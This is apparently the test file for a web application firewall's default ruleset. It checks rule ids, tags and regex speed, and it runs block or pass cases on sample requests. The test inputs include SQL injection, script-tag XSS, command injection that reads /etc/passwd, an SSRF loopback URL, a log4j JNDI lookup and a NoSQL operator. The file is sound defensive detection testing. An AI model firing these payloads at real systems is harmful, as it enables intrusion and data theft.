import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { portcullis } from '../../../src/index.js';
import { DEFAULT_RULE_CLASSES, DEFAULT_RULES, DEFAULT_RULES_VERSION } from '../../../src/rules/default/index.js';
import { isMarker, type RuleSpec } from '../../../src/rules/types.js';

const CLASS_TAG: Record<string, string> = {
  sqli: 'attack-sqli', xss: 'attack-xss', traversal: 'attack-lfi', rfi: 'attack-rfi', rce: 'attack-rce', ssrf: 'attack-ssrf',
  template: 'attack-injection-template', node: 'attack-injection-node', nosql: 'attack-nosql',
  'prototype-pollution': 'attack-prototype-pollution', 'sensitive-files': 'attack-disclosure',
  scanners: 'attack-reputation-scanner', protocol: 'attack-protocol',
};

function regexes(rule: RuleSpec): RegExp[] {
  const out: RegExp[] = [];
  for (let r: RuleSpec | undefined = rule; r; r = r.chain) {
    if (r.operator.name === 'rx') out.push(new RegExp(r.operator.param, r.operator.flags));
  }
  return out;
}

describe('default ruleset structure', () => {
  const rules = DEFAULT_RULES.filter((e): e is RuleSpec => !isMarker(e));

  it('has unique ids in 100000-199999 and a version', () => {
    const ids = rules.map((r) => r.id);
    assert.equal(new Set(ids).size, ids.length);
    for (const id of ids) assert.ok(id >= 100000 && id <= 199999, String(id));
    assert.match(DEFAULT_RULES_VERSION, /^\d+\.\d+\.\d+$/);
  });

  for (const cls of DEFAULT_RULE_CLASSES) {
    it(`${cls.name}: ids in its block, class tag, paranoia tag, PL1 coverage`, () => {
      assert.ok(cls.rules.length > 0);
      assert.ok(cls.rules.some((r) => r.paranoiaLevel === 1), 'needs a PL1 rule');
      for (const r of cls.rules) {
        assert.ok(r.id >= cls.base && r.id < cls.base + 1000, `${r.id} outside ${cls.base}`);
        assert.ok(r.tags.includes(CLASS_TAG[cls.name]!), `${r.id} lacks ${CLASS_TAG[cls.name]}`);
        assert.ok(r.tags.includes(`paranoia-level/${r.paranoiaLevel}`), `${r.id} lacks its paranoia tag`);
        assert.ok(r.anomaly !== undefined, `${r.id} does not score`);
        assert.ok(DEFAULT_RULES.includes(r), `${r.id} missing from DEFAULT_RULES`);
      }
    });
  }

  it('every regex runs in linear-ish time on hostile 64 KiB inputs', () => {
    const hostile = ['a', ' ', '\t', '\n', "'", '"', '.', '/', '$', '{', '<', '%', '&', ';', '\\', '_', '0', '(']
      .flatMap((c) => [c.repeat(65536), `${c}x`.repeat(32768)]);
    for (const r of rules) {
      for (const re of regexes(r)) {
        const start = performance.now();
        for (const h of hostile) re.test(h);
        const ms = performance.now() - start;
        assert.ok(ms < 250, `rule ${r.id} took ${ms.toFixed(0)} ms on hostile input`);
      }
    }
  });
});

describe('default ruleset behaviour (engine, PL1)', () => {
  const waf = portcullis({ mode: 'block', paranoia: 1 });
  const base = { host: 'shop.example.com', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0' };
  const cases: { name: string; url: string; expect: 'block' | 'pass'; rule?: number; headers?: Record<string, string> }[] = [
    { name: 'tokenizer SQLi with a long fingerprint', url: `/s?q=${encodeURIComponent("1' AND 1=2 UNION SELECT username, password FROM users--")}`, expect: 'block', rule: 101000 },
    { name: 'quote-break tautology', url: `/s?q=${encodeURIComponent("x' or 'a'='a")}`, expect: 'block', rule: 101020 },
    { name: 'script tag', url: `/s?q=${encodeURIComponent('<script>alert(1)</script>')}`, expect: 'block', rule: 102010 },
    { name: 'IFS evasion', url: `/s?h=${encodeURIComponent('cat${IFS}/etc/passwd')}`, expect: 'block', rule: 105010 },
    { name: 'quote-split whoami', url: `/s?h=${encodeURIComponent("1;w'h'o'a'm'i")}`, expect: 'block', rule: 105000 },
    { name: 'decimal loopback', url: `/s?u=${encodeURIComponent('http://2130706433/')}`, expect: 'block', rule: 106030 },
    { name: 'nested log4j lookup in a header', url: '/', headers: { 'x-api': '${${lower:j}ndi:ldap://x/a}' }, expect: 'block', rule: 107040 },
    { name: 'NoSQL operator name', url: '/s?user[$ne]=x', expect: 'block', rule: 109000 },
    { name: '.env', url: '/.env', expect: 'block', rule: 111000 },
    { name: "O'Brien", url: `/s?q=${encodeURIComponent("O'Brien")}`, expect: 'pass' },
    { name: 'select a plan', url: '/s?q=select+a+plan', expect: 'pass' },
    { name: 'dog & cat', url: `/s?q=${encodeURIComponent('dog & cat 5 years')}`, expect: 'pass' },
    { name: 'javascript book', url: `/s?q=${encodeURIComponent('javascript: the good parts')}`, expect: 'pass' },
    { name: 'public redirect', url: `/login?redirect=${encodeURIComponent('https://example.com/x')}`, expect: 'pass' },
    { name: 'well-known', url: '/.well-known/security.txt', expect: 'pass' },
    { name: 'template placeholder', url: `/s?q=${encodeURIComponent('Hello {{name}}, you owe ${amount}')}`, expect: 'pass' },
  ];
  for (const c of cases) {
    it(`${c.expect} ${c.name}`, async () => {
      const res = await waf.inspect({ method: 'GET', url: c.url, headers: { ...base, ...(c.headers ?? {}) } });
      assert.equal(res.action, c.expect, res.matches.map((m) => `${m.id}:${m.target}`).join(', '));
      if (c.rule !== undefined) assert.ok(res.matches.some((m) => m.id === c.rule), `rule ${c.rule} did not match: ${res.matches.map((m) => m.id).join(',')}`);
    });
  }
});
